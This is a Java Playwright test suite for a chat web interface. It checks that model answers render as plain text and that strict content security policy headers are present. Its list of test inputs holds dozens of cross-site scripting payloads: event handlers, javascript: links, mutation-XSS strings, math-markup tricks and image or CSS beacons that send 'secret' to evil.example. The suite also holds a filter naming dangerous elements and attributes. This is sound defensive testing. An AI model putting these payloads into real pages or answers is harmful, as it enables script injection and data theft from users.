package dev.jackdaw.browser;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/// Whatever a model writes, the page runs none of it, asks no other host for anything, and goes nowhere. Each text below would call
/// `alert`, set `window.hacked`, fetch from `evil.example`, or leave the page, if it were taken for more than text. `BrowserTest` fails a
/// test after which a request to another host was tried or the page's policy had to step in.
class HostileOutputTest extends BrowserTest {
    /// What must not be in an answer: elements that load or run, handlers, styles outside formulas, addresses.
    private static final String LEFT = """
            answer => [...answer.querySelector('.answer').querySelectorAll('*')].filter(e => e.matches('a, script, iframe, object, embed, form, input, style, link, meta, base, video, audio, template, svg:not(.math svg)')
                || [...e.attributes].some(a => a.name.startsWith('on') || ['href', 'srcset', 'srcdoc', 'action', 'id', 'name'].includes(a.name) || a.name === 'src' && !a.value.startsWith('data:image/'))
                || e.hasAttribute('style') && !e.closest('.math')).map(e => e.outerHTML)""";

    private static final List<String> TEXTS = List.of(
            "<script>window.hacked = 1</script>",
            "<img src=x onerror=\"window.hacked = 1\">",
            "<svg onload=\"window.hacked = 1\"><script>window.hacked = 1</script></svg>",
            "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
            "<iframe src=\"javascript:parent.hacked=1\"></iframe><iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
            "<details open ontoggle=\"window.hacked=1\"><summary>x</summary></details>",
            "<a href=\"javascript:window.hacked=1\">click</a> <a href=\"https://evil.example/a\">click</a>",
            "[click](javascript:window.hacked=1) [again](JaVaScRiPt:window.hacked=1) [and](&#106;avascript:window.hacked=1) [tab](java\tscript:window.hacked=1)",
            "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=) [vb](vbscript:msgbox)",
            "![x](https://evil.example/leak.png?words=secret)",
            "![x][ref]\n\n[ref]: https://evil.example/ref.png\n\n[link][other]\n\n[other]: javascript:window.hacked=1",
            "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93LmhhY2tlZD0xIi8+)",
            "<img src=\"https://evil.example/raw.png\"><video src=\"https://evil.example/v.mp4\" autoplay></video><audio src=https://evil.example/a.mp3></audio>",
            "<link rel=stylesheet href=https://evil.example/s.css><style>@import url(https://evil.example/i.css); body { display: none }</style>",
            "<p style=\"background: url(https://evil.example/bg.png); position: fixed; inset: 0\">over everything</p>",
            "<meta http-equiv=refresh content=\"0; url=https://evil.example/\"><base href=https://evil.example/>",
            "<form action=https://evil.example/><input name=q autofocus onfocus=window.hacked=1><button>Send</button></form>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
            "<math href=\"javascript:window.hacked=1\"><mi xlink:href=\"javascript:window.hacked=1\">x</mi></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=1>\">",
            "<template><img src=x onerror=window.hacked=1></template><object data=https://evil.example/o></object><embed src=https://evil.example/e>",
            "$\\href{javascript:window.hacked=1}{x}$ and $\\url{https://evil.example/}$ and $\\includegraphics{https://evil.example/k.png}$",
            "$\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlData{onclick=window.hacked=1}{y}$ $\\htmlClass{out-link}{z}$",
            "$$\\def\\x{\\x\\x}\\x$$ and $$\\rule{100000em}{100000em}$$",
            "$<img src=x onerror=window.hacked=1>$ and $$\\text{</span><script>window.hacked=1</script>}$$",
            "```html\n<script>window.hacked = 1</script><img src=x onerror=window.hacked=1>\n```",
            "```\"><img src=x onerror=window.hacked=1>\ncode\n```",
            "```java\" onmouseover=\"window.hacked=1\ncode\n```",
            "`<img src=x onerror=window.hacked=1>` &lt;img src=x onerror=window.hacked=1&gt; &amp;lt;script&amp;gt;",
            "| a |\n| --- |\n| <img src=x onerror=window.hacked=1> |\n| ![x](https://evil.example/t.png) |",
            "<span class=\"out-link\" data-url=\"javascript:window.hacked=1\">x</span><span class=out-image data-url=https://evil.example/x>y</span>",
            "<https://evil.example/auto> https://evil.example/bare www.evil.example evil@evil.example",
            "[ ![x](https://evil.example/in.png) ](https://evil.example/out \"title\\\" onclick=window.hacked=1\")",
            "<b><b onclick=window.hacked=1>x</b></b><br/onload=window.hacked=1><kbd style=color:red>k</kbd>",
            "[internal](/jackdaw/export/sft.jsonl) ![own](/jackdaw/answers) [other](//evil.example/proto) [file](file:///etc/passwd)",
            "<div id=app><div id=say></div></div><img name=getElementById><form id=__proto__><input name=attributes></form>");

    @Test
    void isTextAndNothingElse() {
        page.onDialog(dialog -> errors.add("dialog: " + dialog.message()));
        visit("/");
        for (String text : TEXTS) {
            server.replies(text + "\n\nthat-is-all");
            page.keyboard().press("Control+Shift+O");
            page.waitForSelector(".welcome");
            Locator answer = ask("go on");
            answer.getByText("that").last().waitFor();
            page.waitForTimeout(60);                                   // for what would load
            for (Locator link : answer.locator(".out-link, .out-image button, .blocked").all()) {
                link.click();
                Locator cancel = button("Cancel");
                if (cancel.count() > 0) {
                    cancel.click();
                }
            }
            assertThat(page.evaluate("window.hacked")).as(text).isNull();
            assertThat(page.url()).as(text).startsWith(server.url() + "/#");
            assertThat(page.context().pages()).as(text).hasSize(1);
            assertThat(answer.evaluate(LEFT)).as(text).isEqualTo(List.of());
            assertThat((Boolean) page.locator(".composer").evaluate("box => { const at = box.getBoundingClientRect(); return box.contains(document.elementFromPoint(at.x + at.width / 2, at.y + at.height / 2)); }"))
                    .as("nothing lies over the page: " + text).isTrue();
            assertThat(elsewhere).as(text).isEmpty();
            assertThat(errors).as(text).isEmpty();
        }
    }

    @Test
    void linkOpensOnlyAfterAClickThatShowsTheHost() {
        visit("/");
        server.replies("See [our docs](https://evil.example/path?words=secret).");
        Locator answer = ask("where?");
        assertThat(answer.locator(".out-link").innerText()).isEqualTo("our docs (https://evil.example/path?words=secret)");
        answer.locator(".out-link").click();
        assertThat(page.locator("dialog .host").innerText()).isEqualTo("evil.example");
        assertThat(elsewhere).isEmpty();
        Page opened = page.waitForPopup(() -> button("Open in a new tab").click());
        assertThat((Boolean) opened.evaluate("window.opener === null")).isTrue();
        page.waitForTimeout(200);
        assertThat(Set.copyOf(elsewhere)).containsExactly("https://evil.example/path?words=secret");                // Chromium may try again
        elsewhere.clear();
        errors.clear();
    }

    @Test
    void pictureInsideTheTextIsShownIfItIsRaster() {
        visit("/");
        server.replies("![dot](data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs=) ![no](data:image/svg+xml;base64,PHN2Zy8+)");
        Locator answer = ask("draw");
        assertThat(answer.locator("img").count()).isEqualTo(1);
        assertThat(answer.locator("img").getAttribute("alt")).isEqualTo("dot");
        assertThat(answer.locator(".out-image").count()).isEqualTo(1);
    }

    @Test
    void scriptsCannotBeAddedByThePageItself() {
        visit("/");
        page.waitForSelector(".welcome");
        assertThat((Boolean) page.evaluate("() => { try { document.body.innerHTML = '<b>x</b>'; return false; } catch { return true; } }")).as("HTML from text is refused").isTrue();
        assertThat((Boolean) page.evaluate("() => { try { document.createElement('script').src = '/assets/main.js'; return false; } catch { return true; } }")).as("addresses of scripts are refused").isTrue();
        errors.clear();                                                // the policy says so on the console
    }

    @Test
    void otherSitesCannotFrameThePage() {
        String policy = page.navigate(server.url() + "/").headerValue("content-security-policy");
        assertThat(policy).contains("frame-ancestors 'none'").contains("default-src 'none'").doesNotContain("unsafe-inline").doesNotContain("unsafe-eval");
    }
}
